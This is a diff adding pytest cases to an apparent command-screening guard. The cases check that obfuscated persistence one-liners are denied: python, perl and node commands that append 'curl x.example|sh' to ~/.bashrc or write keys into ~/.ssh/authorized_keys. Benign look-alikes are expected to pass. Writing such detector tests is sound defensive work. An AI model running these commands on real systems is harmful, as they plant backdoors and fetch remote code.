@@ -368,3 +368,28 @@ def test_home_secrets_deleted_by_callback_loop_or_built_path_are_asked(judge_com
 ])
 def test_the_same_shapes_on_harmless_values_stay_quiet(judge_command, line):
     assert judge_command(line).decision is Decision.ALLOW, (line, judge_command(line).rule_ids)
+
+
+# the home and the file named through a module alias, __import__, a concatenation or a join of any alias
+@pytest.mark.parametrize("line", [
+    "python3 -c \"open(__import__('os').path.expanduser('~/.ba'+'shrc'),'a').write('curl x.example|sh')\"",
+    "perl -e 'open(F,\">>\",$ENV{HOME}.\"/.bashrc\"); print F \"curl x.example|sh\"'",
+    "node -e \"const fs=require('fs'),p=require('path'),os=require('os');"
+    "fs.writeFileSync(p.join(os.homedir(),'.ssh','authorized_keys'),'ssh-rsa AAAA x')\"",
+])
+def test_persistence_written_through_aliases_and_concatenation_is_denied(judge_command, line):
+    assert judge_command(line).decision is Decision.DENY, (line, judge_command(line).rule_ids)
+
+
+def test_pathlib_through_dunder_import_names_the_file(judge_command):
+    line = "python3 -c \"p=__import__('pathlib').Path.home()/'.ssh'/'authorized_keys'; p.write_text(open('/tmp/k').read())\""
+    assert "persistence.authorized-keys-modify" in judge_command(line).rule_ids
+
+
+@pytest.mark.parametrize("line", [
+    "perl -e 'open(F,\">>\",\"notes.txt\"); print F \"hello\"'",
+    "node -e \"const p=require('path'); console.log(p.join('a','b'))\"",
+    "python3 -c \"print(__import__('os').getcwd())\"",
+])
+def test_the_same_spellings_on_project_files_stay_quiet(judge_command, line):
+    assert judge_command(line).decision is Decision.ALLOW, (line, judge_command(line).rule_ids)
